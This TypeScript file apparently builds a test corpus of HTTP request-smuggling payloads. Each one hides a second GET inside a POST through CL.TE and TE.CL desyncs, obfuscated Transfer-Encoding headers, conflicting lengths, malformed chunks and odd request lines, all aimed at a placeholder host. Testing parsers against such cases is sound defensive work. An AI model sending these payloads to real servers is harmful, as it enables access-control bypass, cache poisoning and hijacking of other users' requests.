/** Ways to send one request that a careless reader takes for two. `<OWN>` stands for a number of each case's own. */
const route = '/public/v1/mirror/campaign/<OWN>/mirror';
const hidden = `GET ${route}?hidden HTTP/1.1\r\nHost: mirror.example.com\r\nX-Hidden: `;
const body = `${hidden}\r\n\r\n`;
const { length } = body;
const inChunks = `${length.toString(16)}\r\n${body}\r\n0\r\n\r\n`;
const chunked = 'Transfer-Encoding: chunked';

function post(lines: readonly string[], sent: string, start = `POST ${route} HTTP/1.1`): string {
  const usual = ['Host: mirror.example.com', 'Content-Type: application/json'];
  return [start, ...usual, ...lines, '', sent].join('\r\n');
}

/** Spellings of the coding that some readers understand and others do not (TE.TE). */
const codings: Readonly<Record<string, readonly string[]>> = {
  'as it is': [chunked],
  'a space before the colon': ['Transfer-Encoding : chunked'],
  'a vertical tabulator before it': ['Transfer-Encoding:\x0bchunked'],
  folded: ['Transfer-Encoding:\r\n chunked'],
  'behind a folded line': ['X: a\r\n Transfer-Encoding: chunked'],
  'behind a bare line feed': ['X: a\nTransfer-Encoding: chunked'],
  'in two lines': [chunked, chunked],
  'an underscore': ['Transfer_Encoding: chunked'],
  'a null behind it': ['Transfer-Encoding: chunked\0'],
  'taken away by Connection': ['Connection: Transfer-Encoding', chunked],
};

const lengths: Readonly<Record<string, readonly string[]>> = {
  'CL.0': ['Content-Length: 0'],
  'no length': [],
  'two lengths, the first one zero': ['Content-Length: 0', `Content-Length: ${length}`],
  'two lengths, the second one zero': [`Content-Length: ${length}`, 'Content-Length: 0'],
  'two equal lengths': [`Content-Length: ${length}`, `Content-Length: ${length}`],
  'a length beyond 2^64': [`Content-Length: ${2n ** 64n}`],
  'a length taken away by Connection': ['Connection: Content-Length', `Content-Length: ${length}`],
  'a length that waits for 100': ['Expect: 100-continue', `Content-Length: ${length}`],
  'an upgrade to HTTP/2': [
    'Connection: Upgrade, HTTP2-Settings',
    'Upgrade: h2c',
    'HTTP2-Settings: AAMAAABkAAQ',
    `Content-Length: ${length}`,
  ],
};

const chunkings: Readonly<Record<string, string>> = {
  'an extension': `1;a=b\r\n{\r\n0\r\n\r\n`,
  'an extension with a hidden chunk': `1;\nx\r\n0\r\n\r\n${body}`,
  'a size beyond 2^64': `1${'0'.repeat(16)}1\r\n{\r\n0\r\n\r\n${body}`,
  'a space behind a size': `1 \r\n{\r\n0\r\n\r\n${body}`,
  'a chunk without its end': `1\r\n{0\r\n\r\n${body}`,
  'the end with line feeds': `1\r\n{\r\n0\n\n${body}`,
  'the end without an empty line': `1\r\n{\r\n0\r\n${body}`,
  'a trailer that frames': `1\r\n{\r\n0\r\nContent-Length: ${length}\r\n\r\n${body}`,
};

const starts: Readonly<Record<string, string>> = {
  'HTTP/1.0 that keeps alive': `POST ${route} HTTP/1.0\r\nConnection: keep-alive`,
  'an absolute target with another host': `POST http://other.example${route} HTTP/1.1`,
  'a second request line': `POST ${route} HTTP/1.1\r\nGET ${route}?hidden HTTP/1.1`,
  'a break in the target': `POST ${route}?\x20HTTP/1.1\r\nX: y HTTP/1.1`,
  'HTTP/0.9': `GET ${route}\r\n`,
};

function* cases(): Iterable<readonly [name: string, text: string]> {
  // Read by its length it is one, by its chunks another one follows; or the other way round.
  const lengthOfBoth = `Content-Length: ${5 + hidden.length}`;
  const lengthOfSize = `Content-Length: ${inChunks.indexOf('\r\n') + 2}`;
  for (const [name, coding] of Object.entries(codings)) {
    yield [`CL.TE: ${name}`, post([...coding, lengthOfBoth], `0\r\n\r\n${hidden}`)];
    yield [`TE.CL: ${name}`, post([lengthOfSize, ...coding], inChunks)];
  }
  for (const [name, lines] of Object.entries(lengths)) yield [`by length: ${name}`, post(lines, body)];
  for (const [name, sent] of Object.entries(chunkings)) yield [`by chunks: ${name}`, post([chunked], sent)];
  for (const [name, start] of Object.entries(starts))
    yield [`by the start: ${name}`, post([`Content-Length: ${length}`], body, start)];
}

/** Bytes, one a character, by what they try. */
export const smuggled = [...cases()];
